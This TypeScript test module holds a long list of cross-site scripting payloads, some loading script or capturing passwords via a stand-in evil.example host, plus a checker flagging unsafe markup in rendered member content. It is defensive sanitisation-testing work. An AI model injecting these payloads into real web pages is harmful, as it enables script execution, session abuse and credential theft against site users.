// Payloads that try to run script, load content or restyle the page, and the check that a
// page carries none of them as markup. Shared by every feature that shows member text.
import type { HTMLElement } from 'node-html-parser';
import { parsePage } from './html.ts';

export const payloads: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">tab</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '[click](javascript:alert(1))',
  '[click](JAVASCRIPT:alert(1))',
  '[click](  javascript:alert(1))',
  '[click](java\nscript:alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](vbscript:msgbox(1))',
  '![img](javascript:alert(1))',
  '![img](x" onerror="alert(1))',
  '[x](https://example.com" onmouseover="alert(1))',
  '<a href="https://example.com" onclick="alert(1)">link</a>',
  '<div style="background:url(javascript:alert(1))">styled</div>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name=password></form>',
  '<input onfocus=alert(1) autofocus>',
  '<select onfocus=alert(1) autofocus>',
  '<textarea onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  '<!--<script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '{{constructor.constructor("alert(1)")()}}',
  '{{{cooked}}} {{#each this}}x{{/each}}',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<a href="#" id="x" hx-get="/logout" hx-trigger="load">htmx</a>',
  '<div hx-post="/p/1/like" hx-trigger="load">htmx</div>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<img src="https://example.com/x.png" onerror="alert(1)">',
  '@<script>alert(1)</script>',
];

const urlAttributes = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background'];
const forbiddenTags = ['iframe', 'object', 'embed', 'base', 'frame', 'frameset', 'svg', 'math', 'style', 'meta[http-equiv]', 'applet', 'video', 'audio', 'marquee', 'details', 'isindex'];

/** Why a page is not inert, or [] when it is. `ownScripts` are the app's own script paths. */
export function unsafeMarkup(html: string): string[] {
  const page = parsePage(html);
  const problems: string[] = [];
  for (const s of page.querySelectorAll('script')) {
    if (!s.getAttribute('src')?.startsWith('/static/') || s.text.trim()) problems.push(`script: ${s.toString().slice(0, 80)}`);
  }
  for (const tag of forbiddenTags) for (const el of page.querySelectorAll(tag)) problems.push(`<${tag}>: ${el.toString().slice(0, 80)}`);
  const walk = (el: HTMLElement) => {
    for (const [name, value] of Object.entries(el.attributes)) {
      const n = name.toLowerCase();
      if (n.startsWith('on')) problems.push(`${n}= on <${el.tagName}>`);
      if (n === 'style' || n === 'srcdoc') problems.push(`${n}= on <${el.tagName}>`);
      if (n.startsWith('hx-') && el.closest('.post-body, .search-results, .notification-list')) problems.push(`${n}= in member content`);
      if (urlAttributes.includes(n)) {
        const squeezed = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
        if (/^(javascript|vbscript|data):/.test(squeezed)) problems.push(`${n}="${value.slice(0, 40)}" on <${el.tagName}>`);
      }
    }
    for (const child of el.childNodes) if ((child as HTMLElement).tagName) walk(child as HTMLElement);
  };
  walk(page);
  // Forms and inputs come only from the app's own templates, never from member content.
  for (const el of page.querySelectorAll('.post-body form, .post-body input, .post-body button, .post-body select, .post-body textarea')) {
    problems.push(`form control in a post: <${el.tagName}>`);
  }
  return problems;
}
